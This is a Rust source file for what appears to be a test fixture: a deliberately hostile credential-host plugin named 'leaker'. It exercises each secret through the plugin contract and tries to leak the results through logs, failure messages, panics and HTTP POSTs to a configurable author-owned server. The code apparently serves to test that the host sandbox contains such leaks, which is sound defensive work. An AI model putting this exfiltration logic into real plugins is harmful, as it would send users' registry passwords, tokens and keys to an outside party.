//! A hostile flavor for tests: it uses every secret in every way that the contract has, keeps the results, and tells
//! them wherever it can: to the log, in notes, failures and its panic message, and to a server of its own.
#![forbid(unsafe_code)]

use crhost_flavor::http::{Encoding, Method, Part, Request};
use crhost_flavor::{
    AcceptedUri, AuthMethod, Basic, Connector, Credential, Description, Failure, Field, FieldKind, FieldValue, Flavor,
    Image, OptionSpec, Password, Prepared, Registry, Secret, UploadProfile, log,
};

struct Leaker;

impl Flavor for Leaker {
    fn describe() -> Description {
        Description {
            name: "leaker".to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            summary: "Tells what it learns".to_owned(),
            documentation: None,
            uri_examples: vec!["localhost:5000/acme".to_owned()],
            options: vec![
                option("service", "A server that may have the secrets, and repeats what it is sent"),
                option("own", "A server of the flavor's author"),
                option("ending", "How it ends: well, with `refuse` or with `panic`"),
            ],
            auth_methods: vec![
                AuthMethod {
                    connector_type: "leaker".to_owned(),
                    name: "all".to_owned(),
                    summary: "Something of everything".to_owned(),
                    fields: vec![
                        field("username", FieldKind::Text),
                        field("password", FieldKind::Secret),
                        field("pem", FieldKind::Secret),
                        Field {
                            public_members: vec!["client_email".to_owned()],
                            ..field("key", FieldKind::SecretJson)
                        },
                    ],
                    implicit: false,
                    hosts: vec!["https://{registry}".to_owned()],
                },
                AuthMethod {
                    connector_type: "leaker".to_owned(),
                    name: "token".to_owned(),
                    summary: "For another host".to_owned(),
                    fields: vec![field("token", FieldKind::Secret)],
                    implicit: false,
                    hosts: vec!["https://other.example".to_owned()],
                },
            ],
            hosts: Vec::new(),
        }
    }

    fn validate_uri(uri: String) -> Result<AcceptedUri, Failure> {
        Ok(AcceptedUri::new(uri))
    }

    fn prepare_image_push(registry: Registry, connector: Option<Connector>, _: Image) -> Result<Prepared, Failure> {
        let connector = connector.ok_or_else(|| Failure::unauthenticated("no connector"))?;
        let mut learnt = Vec::new();
        for (name, value) in &connector.fields {
            if let FieldValue::Secret(secret) = value {
                learnt.push(format!("field {name}"));
                use_up(secret, &registry, &mut learnt);
            }
        }
        let told = learnt.join(" | ");
        // Each way out is also tried with what came of the one before it.
        if let Some(own) = registry.option("own") {
            for piece in &learnt {
                let request = Request::new(Method::Post, own).header("x-learnt", printable(piece)).body(piece.as_str());
                learnt_of(request.send(), &mut Vec::new());
            }
        }
        for piece in &learnt {
            log::debug(piece);
            log::info(piece);
            log::warn(piece);
            eprintln!("{piece}");
        }
        match registry.option("ending") {
            Some("refuse") => Err(Failure::denied(told.clone()).hint(told)),
            Some("panic") => panic!("{told}"),
            _ => Ok(learnt.into_iter().fold(Prepared::new(UploadProfile::standard()), Prepared::note)),
        }
    }

    fn credentials(_: Registry, connector: Option<Connector>, _: Image) -> Result<Credential, Failure> {
        let connector = connector.ok_or_else(|| Failure::unauthenticated("no connector"))?;
        let username = connector.text("username").unwrap_or("nobody").to_owned();
        let is_password = |name: &str| name == "password" || name == "token";
        let password = connector.fields.into_iter().find_map(|(name, value)| match value {
            FieldValue::Secret(secret) if is_password(&name) => Some(secret),
            _ => None,
        });
        let password = password.ok_or_else(|| Failure::unauthenticated("no password"))?;
        Ok(Credential::Basic(Basic {
            username,
            password: Password::Secret(password),
            expires_at: None,
            whole_registry: false,
        }))
    }
}

/// Does with a secret all that can be done with one, and keeps what comes back.
fn use_up(secret: &Secret, registry: &Registry, learnt: &mut Vec<String>) {
    let [service, own] = ["service", "own"].map(|name| registry.option(name).unwrap_or("https://unknown.example/"));
    for encoding in [Encoding::Raw, Encoding::FormUrlencoded, Encoding::Base64] {
        let request = Request::new(Method::Post, service)
            .header_of("x-secret", vec!["Bearer ".into(), Part::secret(secret, encoding)])
            .body("secret=")
            .body(Part::secret(secret, encoding));
        learnt_of(request.send(), learnt);
        // The answer to a request without it, and a host that may be reached and may not have it.
        learnt_of(Request::new(Method::Get, service).send(), learnt);
        learnt_of(Request::new(Method::Post, own).body(Part::secret(secret, encoding)).send(), learnt);
        let in_url = format!("{own}?secret=");
        learnt_of(
            Request::new(Method::Post, in_url).header_of("x", vec![Part::secret(secret, encoding)]).send(),
            learnt,
        );
    }
    learnt.push(format!("hmac {}", hex(&secret.hmac_sha256(b"AWS4", b"message"))));
    learnt.push(match secret.sign_rs256(b"message") {
        Ok(signature) => format!("signature {}", hex(&signature)),
        Err(reason) => format!("no signature: {reason}"),
    });
    for member in ["client_email", "private_key", "absent"] {
        learnt.push(format!("public member {member}: {:?}", secret.public_member(member)));
        if let Some(inner) = secret.member(member) {
            learnt.push(format!("secret member {member}"));
            let request = Request::new(Method::Post, service).body("inner=").body(Part::secret(&inner, Encoding::Raw));
            learnt_of(request.send(), learnt);
        }
    }
}

fn learnt_of(answer: Result<crhost_flavor::http::Response, crhost_flavor::http::NoResponse>, learnt: &mut Vec<String>) {
    match answer {
        Ok(response) => {
            keep(learnt, format!("body {}", String::from_utf8_lossy(&response.body)));
            keep(learnt, format!("header {}", response.header("x-repeated").unwrap_or("none")));
        }
        Err(error) => {
            let Failure { message, .. } = error.into();
            keep(learnt, format!("error {message}"));
        }
    }
}

/// Keeps what is new: notes are few.
fn keep(learnt: &mut Vec<String>, piece: String) {
    if !learnt.contains(&piece) {
        learnt.push(piece);
    }
}

fn printable(text: &str) -> String {
    text.chars().filter(|c| c.is_ascii_graphic()).take(8_000).collect()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn option(name: &str, summary: &str) -> OptionSpec {
    OptionSpec { name: name.to_owned(), summary: summary.to_owned(), default: None, required: false }
}

fn field(name: &str, kind: FieldKind) -> Field {
    Field {
        name: name.to_owned(),
        summary: format!("The {name}"),
        kind,
        required: true,
        sources: Vec::new(),
        public_members: Vec::new(),
    }
}

crhost_flavor::export!(Leaker);
